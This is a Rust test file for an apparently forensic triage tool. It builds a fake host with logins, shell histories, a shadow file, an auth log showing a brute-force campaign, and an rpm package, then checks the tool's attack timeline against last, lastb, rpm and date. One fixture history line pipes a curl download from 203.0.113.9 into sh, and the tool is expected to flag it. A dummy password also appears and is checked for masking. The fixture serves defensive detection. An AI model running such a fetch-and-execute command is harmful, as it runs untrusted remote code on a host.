//! The attack timeline's sources (#20): login records, shell histories, sudo commands, shadow's
//! password changes, rpm install times and log campaigns, each on a fixture root made with the
//! real tools (`utmpdump -r`, `rpmbuild`/`rpm`) and compared with what the reference tools
//! report (`last`, `lastb`, `rpm -qa`, `date`) or with the epochs the files hold.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::format_push_string
)]

use ferret::core::{Control, HostRoot};
use ferret::timeline::{Entry, SourceStatus, Timeline, TimelineOptions};
use ferret::triage::{triage_root, TriageModule, TriageOptions};
use ferret_testkit::logins::{binary, Rec};
use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::process::Command;

const T0: i64 = 1_700_000_000; // 2023-11-14T22:13:20Z

fn iso(sec: i64) -> String {
    // The reference: date(1), not ferret's own formatter.
    let out = Command::new("date")
        .args(["-u", "-d", &format!("@{sec}"), "+%Y-%m-%dT%H:%M:%SZ"])
        .output()
        .unwrap();
    String::from_utf8(out.stdout).unwrap().trim().to_owned()
}

/// Unix seconds of a time `last`/`lastb` print with `--time-format iso`.
fn secs_of(s: &str) -> i64 {
    let out = Command::new("date")
        .args(["-u", "-d", s, "+%s"])
        .output()
        .unwrap();
    String::from_utf8(out.stdout)
        .unwrap()
        .trim()
        .parse()
        .unwrap()
}

fn write(root: &Path, rel: &str, data: impl AsRef<[u8]>) {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, data).unwrap();
}

/// The history lines (user, epoch, command) the fixture's files hold.
const HISTORY: [(&str, i64, &str); 5] = [
    ("alice", T0 + 400, "ls -la"),
    ("alice", T0 + 460, "mysql -uroot -pS3cret db"),
    ("bob", T0 + 500, "curl -s http://203.0.113.9/x | sh"),
    ("bob", T0 + 510, "id"),
    ("carol", T0 + 600, "uname -a"),
];

/// Shadow's last-change days of the fixture's accounts (carol's 0 is "change at next login").
const LASTCHG: [(&str, i64); 3] = [("root", 19_000), ("alice", 19_675), ("bob", 19_600)];

/// Campaign sources: 60 addresses, 5 failures each (the default campaign threshold is 50).
const CAMPAIGN: u32 = 60;

fn auth_line(sec: i64, msg: &str) -> String {
    let t = iso(sec).replace('Z', "+00:00");
    format!("{t} web {msg}\n")
}

fn fixture(root: &Path, work: &Path) {
    write(
        root,
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\n\
         alice:x:1000:1000::/home/alice:/bin/bash\n\
         bob:x:1001:1001::/home/bob:/usr/bin/zsh\n\
         carol:x:1002:1002::/home/carol:/usr/bin/fish\n",
    );
    let mut shadow = String::new();
    for (u, d) in LASTCHG {
        shadow += &format!("{u}:!:{d}:0:99999:7:::\n");
    }
    shadow += "carol:!:0:0:99999:7:::\n";
    write(root, "etc/shadow", shadow);
    // Histories in the three timed formats, and a bash line without a time.
    write(
        root,
        "home/alice/.bash_history",
        format!(
            "#{}\n{}\n#{}\n{}\n",
            HISTORY[0].1, HISTORY[0].2, HISTORY[1].1, HISTORY[1].2
        ),
    );
    // root's history has no times (bash reads times only when the file starts with one).
    write(root, "root/.bash_history", "whoami\nid\n");
    write(
        root,
        "home/bob/.zsh_history",
        format!(
            ": {}:0;{}\n: {}:3;{}\n",
            HISTORY[2].1, HISTORY[2].2, HISTORY[3].1, HISTORY[3].2
        ),
    );
    write(
        root,
        "home/carol/.local/share/fish/fish_history",
        format!("- cmd: {}\n  when: {}\n", HISTORY[4].2, HISTORY[4].1),
    );
    // wtmp and btmp, written by util-linux's utmpdump -r.
    write(
        root,
        "var/log/wtmp",
        binary(&[
            Rec::boot(T0 - 3600),
            Rec::login(b"alice", "pts/0", "203.0.113.9", 2000, T0 + 300),
            Rec::logout("pts/0", 2000, T0 + 900),
            Rec::login(b"root", "pts/1", "198.51.100.7", 2001, T0 + 1000),
            Rec::shutdown(T0 + 5000),
            Rec::boot(T0 + 5100),
            Rec::login(b"bob", "pts/0", "192.0.2.77", 2002, T0 + 5200),
            Rec::logout("pts/0", 2002, T0 + 5300),
        ]),
    );
    let mut failures = Vec::new();
    for (i, (user, host, sec)) in [
        ("root", "198.51.100.7", T0 + 100),
        ("admin", "198.51.100.7", T0 + 110),
        ("root", "198.51.100.7", T0 + 120),
        ("test", "203.0.113.9", T0 + 200),
        ("root", "198.51.100.7", T0 + 130),
        ("root", "198.51.100.7", T0 + 140),
        ("oracle", "198.51.100.7", T0 + 3700),
        ("root", "198.51.100.7", T0 + 3710),
        ("root", "203.0.113.9", T0 + 3720),
    ]
    .into_iter()
    .enumerate()
    {
        let mut r = Rec::login(user.as_bytes(), "ssh:notty", host, 3000 + i as u32, sec);
        r.ty = 6;
        failures.push(r);
    }
    write(root, "var/log/btmp", binary(&failures));
    // The auth log: a distributed brute force, a sudo command with a password in it.
    let mut auth = String::new();
    for i in 0..CAMPAIGN {
        for k in 0..5 {
            auth += &auth_line(
                T0 + 60 + i64::from(i) * 2 + k,
                &format!(
                    "sshd[{}]: Failed password for root from 192.0.2.{} port 4000 ssh2",
                    4000 + i * 5 + k as u32,
                    i + 1
                ),
            );
        }
    }
    auth += &auth_line(
        T0 + 700,
        "sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/mysql -uroot -pS3cret",
    );
    write(root, "var/log/auth.log", auth);
    // An rpm database with one package, installed by rpm itself.
    ferret_testkit::rpm::install(work, root, RPM_SPEC);
}

const RPM_SPEC: &str = r"Name: ferret-timeline
Version: 1
Release: 1
Summary: timeline fixture
License: MIT
BuildArch: noarch
%description
timeline fixture
%install
mkdir -p %{buildroot}/usr/bin
printf '#!/bin/sh\n' > %{buildroot}/usr/bin/tl
%files
%attr(0755,root,root) /usr/bin/tl
";

fn timeline(root: &Path, tl: TimelineOptions) -> Timeline {
    let mut o = TriageOptions::default();
    o.only = Some(vec![
        TriageModule::Accounts,
        TriageModule::Logs,
        TriageModule::History,
    ]);
    o.timeline = Some(tl);
    let r = triage_root(&HostRoot::new(root).unwrap(), &o, &Control::new());
    r.timeline.unwrap()
}

fn everything() -> TimelineOptions {
    let mut t = TimelineOptions::default();
    t.since = Some(0);
    t
}

fn of<'t>(tl: &'t Timeline, source: &str, kind: &str) -> Vec<&'t Entry> {
    tl.entries
        .iter()
        .filter(|e| e.source == source && e.kind == kind)
        .collect()
}

/// The lines `tool -f FILE --time-format iso -w -i [-x]` prints, as (user, host, start, end).
fn last_lines(tool: &str, file: &Path, x: bool) -> Vec<(String, String, i64, Option<i64>)> {
    let mut cmd = Command::new(tool);
    cmd.arg("-f")
        .arg(file)
        .args(["--time-format", "iso", "-w", "-i"])
        .env("TZ", "UTC");
    if x {
        cmd.arg("-x");
    }
    let out = cmd.output().unwrap();
    assert!(out.status.success(), "{tool}: {out:?}");
    let text = String::from_utf8(out.stdout).unwrap();
    let is_time = |s: &str| s.len() >= 19 && s.as_bytes()[4] == b'-' && s.contains('T');
    let mut v = Vec::new();
    for l in text.lines() {
        let cols: Vec<&str> = l.split_whitespace().collect();
        let Some(i) = cols.iter().position(|c| is_time(c)) else {
            continue;
        };
        if cols[0] == "wtmp" || cols[0] == "btmp" {
            continue;
        }
        let end = cols
            .get(i + 2)
            .filter(|c| cols.get(i + 1) == Some(&"-") && is_time(c))
            .map(|c| secs_of(c));
        v.push((
            cols[0].to_owned(),
            cols[2].to_owned(),
            secs_of(cols[i]),
            end,
        ));
    }
    assert!(!v.is_empty(), "{tool} printed nothing: {text}");
    v
}

#[test]
fn every_source_matches_its_reference_tool() {
    let work = tempfile::tempdir().unwrap();
    let root = work.path().join("root");
    std::fs::create_dir(&root).unwrap();
    fixture(&root, work.path());
    let tl = timeline(&root, everything());
    let status: BTreeMap<&str, SourceStatus> = tl
        .sources
        .iter()
        .map(|s| (s.name.as_str(), s.status))
        .collect();
    for s in ["logs", "logins", "history", "accounts", "packages"] {
        assert_eq!(status.get(s), Some(&SourceStatus::Read), "{s}: {tl:#?}");
    }

    // Login records: the logins, logouts, boots and shutdowns `last -x` lists.
    let last = last_lines("last", &root.join("var/log/wtmp"), true);
    let want: BTreeSet<(String, i64)> = last
        .iter()
        .filter(|(u, ..)| !["reboot", "shutdown", "runlevel"].contains(&u.as_str()))
        .map(|(u, _, s, _)| (u.clone(), *s))
        .collect();
    let got: BTreeSet<(String, i64)> = of(&tl, "logins", "login")
        .iter()
        .map(|e| (e.subject.clone(), e.time.sec))
        .collect();
    assert_eq!(got, want, "logins: last -x said {last:#?}");
    assert_eq!(want.len(), 3);
    let want: BTreeSet<i64> = last
        .iter()
        .filter(|(u, ..)| u == "reboot")
        .map(|l| l.2)
        .collect();
    let got: BTreeSet<i64> = of(&tl, "logins", "boot")
        .iter()
        .map(|e| e.time.sec)
        .collect();
    assert_eq!(got, want, "boots");
    let want: BTreeSet<i64> = last
        .iter()
        .filter(|(u, ..)| u == "shutdown")
        .map(|l| l.2)
        .collect();
    let got: BTreeSet<i64> = of(&tl, "logins", "shutdown")
        .iter()
        .map(|e| e.time.sec)
        .collect();
    assert_eq!(got, want, "shutdowns");
    // Each logout `last` prints as a time is a logout entry of that user at that time.
    let want: BTreeSet<(String, i64)> = last
        .iter()
        .filter(|(u, ..)| !["reboot", "shutdown", "runlevel"].contains(&u.as_str()))
        .filter_map(|(u, _, _, end)| end.map(|e| (u.clone(), e)))
        .collect();
    let got: BTreeSet<(String, i64)> = of(&tl, "logins", "logout")
        .iter()
        .filter(|e| e.what.ends_with("logout"))
        .map(|e| (e.subject.clone(), e.time.sec))
        .collect();
    assert_eq!(got, want, "logouts");
    assert!(of(&tl, "logins", "login")
        .iter()
        .all(|e| e.evidence.as_ref().unwrap().path == "/var/log/wtmp"));

    // Failed logins: one entry per source and hour, with lastb's counts.
    let lastb = last_lines("lastb", &root.join("var/log/btmp"), false);
    let mut want: BTreeMap<(String, i64), u64> = BTreeMap::new();
    for (_, host, s, _) in &lastb {
        *want.entry((host.clone(), s.div_euclid(3600))).or_default() += 1;
    }
    let got: BTreeMap<(String, i64), u64> = of(&tl, "logins", "failed-logins")
        .iter()
        .map(|e| {
            let n: u64 = e.what.split(' ').next().unwrap().parse().unwrap();
            ((e.subject.clone(), e.time.sec.div_euclid(3600)), n)
        })
        .collect();
    assert_eq!(got, want, "lastb said {lastb:#?}");
    assert_eq!(lastb.len(), 9);
    assert_eq!(want.len(), 4, "two sources, each in two hours");

    // Histories: every timed line at its own epoch, as date(1) writes it; secrets masked.
    let got: BTreeSet<(String, i64)> = of(&tl, "history", "command")
        .iter()
        .map(|e| (e.subject.clone(), e.time.sec))
        .collect();
    let want: BTreeSet<(String, i64)> = HISTORY
        .iter()
        .map(|(u, t, _)| ((*u).to_owned(), *t))
        .collect();
    assert_eq!(got, want);
    for (u, t, cmd) in HISTORY {
        let e = of(&tl, "history", "command")
            .into_iter()
            .find(|e| e.subject == u && e.time.sec == t)
            .unwrap();
        assert_eq!(serde_json::to_value(e).unwrap()["time"], iso(t).as_str());
        let shown = cmd.replace("-pS3cret", "-p***");
        assert!(e.what.contains(&shown), "{} lacks {shown}", e.what);
        assert!(e.evidence.is_some());
    }
    let bash = of(&tl, "history", "command")
        .into_iter()
        .find(|e| e.time.sec == HISTORY[0].1)
        .unwrap();
    assert_eq!(
        bash.evidence.as_ref().unwrap().to_string(),
        "/home/alice/.bash_history:2"
    );

    // Sudo: the command, masked.
    let sudo = of(&tl, "logs", "sudo");
    assert_eq!(sudo.len(), 1);
    assert_eq!(sudo[0].time.sec, T0 + 700);
    assert!(sudo[0].what.contains("-p***"), "{}", sudo[0].what);

    // No secret anywhere in what a timeline writes.
    let mut jsonl = Vec::new();
    ferret::render::timeline_json_lines(&tl, &mut jsonl).unwrap();
    let mut text = Vec::new();
    ferret::render::timeline_text(&tl, &mut text).unwrap();
    for out in [&jsonl, &text] {
        assert!(!String::from_utf8_lossy(out).contains("S3cret"));
    }

    // Shadow: each last-change day at 00:00 UTC, the day as date(1) names it.
    let got: BTreeSet<(String, i64)> = of(&tl, "accounts", "password-changed")
        .iter()
        .map(|e| (e.subject.clone(), e.time.sec))
        .collect();
    let want: BTreeSet<(String, i64)> = LASTCHG
        .iter()
        .map(|(u, d)| ((*u).to_owned(), d * 86_400))
        .collect();
    assert_eq!(got, want);
    for e in of(&tl, "accounts", "password-changed") {
        let day = &iso(e.time.sec)[..10];
        assert!(e.what.contains(day) && e.what.contains("day precision"));
        assert_eq!(e.evidence.as_ref().unwrap().path, "/etc/shadow");
    }

    // rpm: each package at the install time `rpm -qa` prints.
    let q = Command::new("rpm")
        .arg("--dbpath")
        .arg(root.join("var/lib/rpm"))
        .args(["-qa", "--qf", "%{NAME} %{INSTALLTIME}\n"])
        .output()
        .unwrap();
    let want: BTreeSet<(String, i64)> = String::from_utf8(q.stdout)
        .unwrap()
        .lines()
        .map(|l| {
            let (n, t) = l.split_once(' ').unwrap();
            (n.to_owned(), t.parse().unwrap())
        })
        .collect();
    assert!(!want.is_empty());
    let got: BTreeSet<(String, i64)> = of(&tl, "packages", "install")
        .iter()
        .filter(|e| e.what.ends_with("(rpm)"))
        .map(|e| (e.subject.clone(), e.time.sec))
        .collect();
    assert_eq!(got, want);

    // The campaign: its first and last event, and its top sources' first and last events.
    let first = of(&tl, "logs", "campaign-first");
    let last = of(&tl, "logs", "campaign-last");
    assert_eq!((first.len(), last.len()), (1, 1), "{:#?}", tl.entries);
    assert_eq!(first[0].subject, "logs.brute-force");
    assert_eq!(first[0].time.sec, T0 + 60);
    assert_eq!(last[0].time.sec, T0 + 60 + i64::from(CAMPAIGN - 1) * 2 + 4);
    assert!(first[0]
        .what
        .contains(&format!("{CAMPAIGN} sources, {} failures", CAMPAIGN * 5)));
    let tops: BTreeSet<&str> = of(&tl, "logs", "source-first")
        .iter()
        .map(|e| e.subject.as_str())
        .collect();
    assert_eq!(tops.len(), 10, "the top 10 sources: {tops:?}");
    for e in of(&tl, "logs", "source-first") {
        let i: i64 = e.subject.rsplit('.').next().unwrap().parse().unwrap();
        assert_eq!(e.time.sec, T0 + 60 + (i - 1) * 2, "{e:?}");
    }

    // Time order throughout.
    assert!(tl.entries.windows(2).all(|w| w[0].time <= w[1].time));
}

#[test]
fn the_attack_window_filters_the_new_sources_too() {
    let work = tempfile::tempdir().unwrap();
    let root = work.path().join("root");
    std::fs::create_dir(&root).unwrap();
    fixture(&root, work.path());
    let tl = timeline(&root, TimelineOptions::default());
    let since = tl.since.clone().expect("an attack window was found");
    // From the campaign's first failure less an hour.
    assert_eq!(since, iso(T0 + 60 - 3600));
    // Shadow's days are long before it: read, counted, not kept; the logins after it are.
    let acc = tl.sources.iter().find(|s| s.name == "accounts").unwrap();
    assert_eq!(acc.entries, LASTCHG.len());
    assert!(of(&tl, "accounts", "password-changed").is_empty());
    assert!(of(&tl, "logins", "boot")
        .iter()
        .all(|e| e.time.sec >= T0 + 60 - 3600));
    assert_eq!(of(&tl, "logins", "boot").len(), 1, "the boot before is cut");
    assert_eq!(of(&tl, "history", "command").len(), HISTORY.len());
    // --until cuts the end.
    let mut t = TimelineOptions::default();
    t.since = Some(T0);
    t.until = Some(T0 + 450);
    let tl = timeline(&root, t);
    let hist: Vec<i64> = of(&tl, "history", "command")
        .iter()
        .map(|e| e.time.sec)
        .collect();
    assert_eq!(hist, [T0 + 400]);
    assert!(tl
        .entries
        .iter()
        .all(|e| (T0..=T0 + 450).contains(&e.time.sec)));
}

#[test]
fn history_sources_are_the_modules_lists_not_a_finding() {
    let work = tempfile::tempdir().unwrap();
    let root = work.path().join("root");
    std::fs::create_dir(&root).unwrap();
    fixture(&root, work.path());
    // dave logs in interactively and has no history file.
    let mut pw = std::fs::read(root.join("etc/passwd")).unwrap();
    pw.extend_from_slice(b"dave:x:1003:1003::/home/dave:/bin/bash\n");
    std::fs::write(root.join("etc/passwd"), pw).unwrap();
    let mut o = TriageOptions::default();
    o.only = Some(vec![TriageModule::History]);
    let r = triage_root(&HostRoot::new(&root).unwrap(), &o, &Control::new());
    assert!(r.findings.iter().all(|f| f.id != "history.sources"));
    let m = &r.modules[0];
    assert_eq!(m.name, "history");
    let read: BTreeSet<&str> = m.read.iter().map(String::as_str).collect();
    assert_eq!(
        read,
        BTreeSet::from([
            "/root/.bash_history",
            "/home/alice/.bash_history",
            "/home/bob/.zsh_history",
            "/home/carol/.local/share/fish/fish_history",
        ])
    );
    assert!(
        m.not_found.iter().any(|n| n.contains("dave")),
        "{:?}",
        m.not_found
    );
    // The classified command is still a finding.
    assert!(r.findings.iter().any(|f| f.id == "history.download-execute"
        || f.also_reported_as
            .iter()
            .any(|a| a == "history.download-execute")));
}
